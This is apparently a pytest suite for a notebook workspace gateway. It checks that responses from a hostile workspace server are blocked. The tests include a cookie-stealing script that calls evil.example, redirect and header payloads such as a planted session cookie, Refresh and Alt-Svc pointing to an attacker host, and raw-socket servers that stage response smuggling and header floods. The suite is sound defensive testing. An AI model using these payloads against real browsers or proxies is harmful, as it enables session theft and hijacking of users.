"""A workspace's server that notebook code has replaced: what it says reaches the browser as data or not at all."""

import asyncio

import aiohttp
import pytest
from aiohttp import web

from tests.attacks.claims import By, Stops, attack
from tests.workspaces.gate.conftest import BASE
from workspaces.gate import exchange

REPLIES, HEADERS, EXCHANGE = (
    "workspaces/gate/replies.py",
    "workspaces/gate/headers.py",
    "workspaces/gate/exchange.py",
)
PAGE = "<script>fetch('https://evil.example/?' + document.cookie)</script>"
PATHS = ["api", "api/contents/x", "lab/api/workspaces/default", "enclave/requests"]


def answering(body: str = PAGE, status: int = 200, **headers: str):
    async def answer(_request):
        response = web.Response(body=body.encode(), status=status)
        response.headers.popall("Content-Type", None)
        for name, value in headers.items():
            response.headers.add(name.replace("_", "-"), value)
        return response

    return answer


async def seen(world, address: str, **headers: str):
    async with world.get(address, **headers) as answer:
        return answer.status, answer.headers.copy(), await answer.text()


async def both(world, plain, handler, path: str = "api"):
    """What a plain proxy hands on, and what the gate does."""
    folder = await world.workspace(handler)
    plainly = await seen(world, await plain.to(folder / "server.sock") + BASE + path)
    return plainly, await seen(world, world.work + BASE + path, **world.inside())


@attack(
    "page-of-a-workspace",
    by=By.WORKSPACE,
    stops=Stops(REPLIES, "if len(types) != 1 or types[0] not in _ENOUGH:", "if False:"),
)
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/javascript", "application/xhtml+xml"])
async def test_what_a_browser_would_run_or_show_is_not_passed_on(world, plain, control, path, kind):
    plainly, ours = await both(world, plain, answering(Content_Type=kind), path)
    with control("a plain proxy serves it as the page that it is"):
        assert plainly[0] == 200 and plainly[1]["Content-Type"] == kind and PAGE in plainly[2]
    assert ours[0] == 502 and PAGE not in ours[2]


@attack(
    "page-disguised-as-data",
    by=By.WORKSPACE,
    stops=Stops(
        HEADERS,
        'kept[_CONTENT_TYPE] = "application/json"',
        "kept[_CONTENT_TYPE] = given[_CONTENT_TYPE]",
    ),
    more=(Stops(HEADERS, "kept = CIMultiDict(lines)", "kept = CIMultiDict()"),),
)
async def test_data_is_never_guessed_to_be_a_page(world, plain, control):
    handler = answering(Content_Type='application/json; x="text/html"', Content_Security_Policy="default-src *")
    plainly, ours = await both(world, plain, handler)
    with control("a plain proxy hands on whatever type and policy the workspace likes"):
        assert "text/html" in plainly[1]["Content-Type"] and "nosniff" not in plainly[1].values()
    assert ours[0] == 200 and ours[1]["Content-Type"] == "application/json"
    assert ours[1]["X-Content-Type-Options"] == "nosniff"
    assert ours[1].getall("Content-Security-Policy") == ["default-src 'none'; sandbox; frame-ancestors 'none'"]


@attack("attachment", by=By.WORKSPACE, stops=Stops(REPLIES, 'if "Content-Disposition" in given:', "if False:"))
@pytest.mark.parametrize("value", ['attachment; filename="rows.csv"', "ATTACHMENT", "inline; filename=x", "x"])
async def test_no_download_is_handed_out(world, plain, control, value):
    plainly, ours = await both(
        world, plain, answering("rows", Content_Disposition=value, Content_Type="application/json")
    )
    with control("a plain proxy hands it out"):
        assert plainly[1]["Content-Disposition"] == value
    assert ours[0] == 502 and "rows" not in ours[2] and "Content-Disposition" not in ours[1]


@attack("packed-reply", by=By.WORKSPACE, stops=Stops(REPLIES, 'if "Content-Encoding" in given:', "if False:"))
@pytest.mark.parametrize("value", ["gzip", "br", "deflate, gzip"])
async def test_nothing_passes_packed_where_it_cannot_be_measured(world, plain, control, value):
    plainly, ours = await both(
        world, plain, answering("rows", Content_Encoding=value, Content_Type="application/json")
    )
    with control("a plain proxy hands it on packed"):
        assert plainly[1]["Content-Encoding"] == value
    assert ours[0] == 502 and "rows" not in ours[2]


@attack("redirect", by=By.WORKSPACE, stops=Stops(REPLIES, "if 300 <= status < 400 and status != 304:", "if False:"))
@pytest.mark.parametrize("status", [300, 301, 302, 303, 307, 308])
async def test_the_browser_is_not_sent_elsewhere(world, plain, control, status):
    where = "https://evil.example/?rows"
    plainly, ours = await both(world, plain, answering("", status, Location=where, Content_Type="application/json"))
    with control("a plain proxy sends the browser there"):
        assert plainly[0] == status and plainly[1]["Location"] == where
    assert ours[0] == 502 and "Location" not in ours[1]


ACTED_UPON = {
    "Set-Cookie": "enclave-session=planted; Path=/",
    "Refresh": "0; url=https://evil.example",
    "Link": "<https://evil.example/x.css>; rel=preload",
    "Access-Control-Allow-Origin": "*",
    "Service-Worker-Allowed": "/",
    "Clear-Site-Data": '"*"',
    "Report-To": '{"endpoints": [{"url": "https://evil.example"}]}',
    "Strict-Transport-Security": "max-age=0",
    "Alt-Svc": 'h3="evil.example:443"',
    "SourceMap": "https://evil.example/map",
}


@attack(
    "cookies-and-commands-to-the-browser",
    by=By.WORKSPACE,
    stops=Stops(HEADERS, "for name in _RECEIVED:", "for name in given:"),
)
@pytest.mark.parametrize("name", ACTED_UPON)
async def test_no_header_that_a_browser_acts_upon_passes(world, plain, control, name):
    handler = answering("1", Content_Type="application/json", **{name.replace("-", "_"): ACTED_UPON[name]})
    plainly, ours = await both(world, plain, handler)
    with control("a plain proxy hands it on"):
        assert plainly[1][name] == ACTED_UPON[name]
    assert ours[0] == 200 and name not in ours[1]


class Raw:
    """A server on the workspace's socket that says these bytes to each request, whatever it was."""

    def __init__(self, said: bytes, again: bytes = b"") -> None:
        self.said, self.again, self.asked = said, again, 0

    async def at(self, world) -> str:
        folder = await world.workspace(answering())
        await world.runners.pop("alice/tumour-ml").cleanup()
        path = folder / "server.sock"
        path.unlink(missing_ok=True)
        self.server = await asyncio.start_unix_server(self.serve, str(path))
        return str(path)

    async def serve(self, reader, writer):
        try:
            while await reader.readuntil(b"\r\n\r\n"):
                self.asked += 1
                writer.write(self.said if self.asked == 1 else self.again or self.said)
                await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()

    async def close(self):
        self.server.close()
        await asyncio.sleep(0.05)


@pytest.fixture
async def raw(world):
    """Make a raw server the workspace's."""
    made: list[Raw] = []

    async def make(said: bytes, again: bytes = b"") -> str:
        made.append(Raw(said, again))
        return await made[-1].at(world)

    yield make
    for one in made:
        await one.close()


async def plainly(path: str, count: int = 1, **options):
    """What an ordinary client of that socket gets, asking this often over one connection."""
    connector = aiohttp.UnixConnector(path, limit=1)
    async with aiohttp.ClientSession(connector=connector, **options) as client:
        for _ in range(count):
            async with client.get("http://localhost/") as answer:
                read = answer.status, await answer.text()
        return read


OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"


@attack(
    "interim-answers-without-end",
    by=By.WORKSPACE,
    stops=Stops(EXCHANGE, "for _ in range(_INTERIM):", "while True:"),
)
async def test_a_flood_of_interim_answers_is_given_up(world, raw, control):
    path = await raw(b"HTTP/1.1 103 Early Hints\r\n\r\n" * 500 + OK)
    with control("an ordinary client reads on and on"):
        assert await plainly(path) == (200, "{}")
    assert (await seen(world, world.work + BASE + "api", **world.inside()))[0] == 503


@attack(
    "head-without-end", by=By.WORKSPACE, stops=Stops(EXCHANGE, "HEADER_BYTES = 65536", "HEADER_BYTES = 1 << 30")
)
async def test_a_head_of_megabytes_is_not_taken_in(world, raw, control):
    path = await raw(b"HTTP/1.1 200 OK\r\nX-Large: " + b"x" * 5_000_000 + OK.removeprefix(b"HTTP/1.1 200 OK"))
    with control("a client without a limit takes it in"):
        assert await plainly(path, max_field_size=1 << 30) == (200, "{}")
    assert (await seen(world, world.work + BASE + "api", **world.inside()))[0] == 503


@attack("server-that-never-answers", by=By.WORKSPACE, stops=Stops(EXCHANGE, "self.set_exception(silent)", "pass"))
async def test_a_silent_server_is_given_up(world, raw, control, monkeypatch):
    path = await raw(b"")
    monkeypatch.setattr(exchange, "READ_SECONDS", 0.2)
    with control("an ordinary client still waits after many times as long"):
        waiting = asyncio.create_task(plainly(path))
        await asyncio.wait([waiting], timeout=2)
        assert not waiting.done()
        waiting.cancel()
    async with asyncio.timeout(20):
        assert (await seen(world, world.work + BASE + "api", **world.inside()))[0] == 503


@attack(
    "tunnel-by-switching-protocols",
    by=By.WORKSPACE,
    stops=Stops(
        "workspaces/gate/forward.py",
        "if not 200 <= answer.status <= 599:",
        "if False:",
    ),
)
@pytest.mark.parametrize("status", [b"101 Switching Protocols", b"999 Whatever", b"600 x"])
async def test_an_answer_that_is_none_is_not_passed_on(world, raw, plain, control, status):
    path = await raw(b"HTTP/1.1 " + status + b"\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n")
    with control("an ordinary client takes it for an answer"):
        connector = aiohttp.UnixConnector(path)
        async with aiohttp.ClientSession(connector=connector) as client, client.get("http://localhost/") as answer:
            assert answer.status == int(status[:3])
    assert (await seen(world, world.work + BASE + "api", **world.inside()))[0] == 502


class Late(Raw):
    """The second answer comes a moment after the first, when nobody is asking."""

    async def serve(self, reader, writer):
        await reader.readuntil(b"\r\n\r\n")
        writer.write(OK)
        await asyncio.sleep(0.05)
        writer.write(self.said)
        await super().serve(reader, writer)


@attack(
    "answer-that-nobody-asked-for",
    by=By.WORKSPACE,
    stops=Stops(
        EXCHANGE,
        ("if since > oldest and connection.is_connected() and not connection.should_close:"),
        "if since > oldest and connection.is_connected():",
    ),
)
async def test_a_second_answer_is_not_given_to_the_next_question(world, control):
    """The next question is about another file, and asked by a part of the page that trusts another answer."""
    planted = b'"planted"'
    more = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n" + planted
    late = Late(more, OK)
    path = await late.at(world)
    with control("on a connection that is kept, the second answer is there before the second question"):
        reader, writer = await asyncio.open_unix_connection(path)
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        assert planted in await reader.readexactly(len(OK + more))
        writer.close()
    for _ in range(3):
        status, _, text = await seen(world, world.work + BASE + "api", **world.inside())
        assert status == 200 and "planted" not in text
        await asyncio.sleep(0.2)
    await late.close()
